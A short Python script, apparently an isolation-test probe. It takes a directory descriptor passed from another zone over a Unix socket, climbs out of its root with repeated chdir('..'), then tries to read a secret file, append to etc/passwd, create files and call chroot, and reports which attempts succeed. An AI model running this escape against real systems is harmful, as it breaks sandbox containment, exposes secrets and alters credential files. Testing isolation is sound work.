# Takes a descriptor of another zone's root and goes up from there as far as it can.
import array, os, socket, sys
peer = socket.socket(socket.AF_UNIX)
peer.connect('/shared/socket')
_, data, _, _ = peer.recvmsg(1, socket.CMSG_SPACE(4))
fd = array.array('i', data[0][2])[0]
os.fchdir(fd)
for _ in range(50):
    os.chdir('..')
top = os.stat('.')
found = []
for what, work in (
    ('read', lambda: open('var/tmp/secret').read()),
    ('write', lambda: open('etc/passwd', 'a').write('x')),
    ('make', lambda: open('etc/new', 'w')),
    ('root', lambda: os.chroot('.')),
):
    try:
        work()
        found.append(what)
    except OSError:
        pass
here = os.path.exists(sys.argv[1].lstrip('/'))
print(top.st_dev, top.st_ino, here, [w for w in found if w != 'root'])
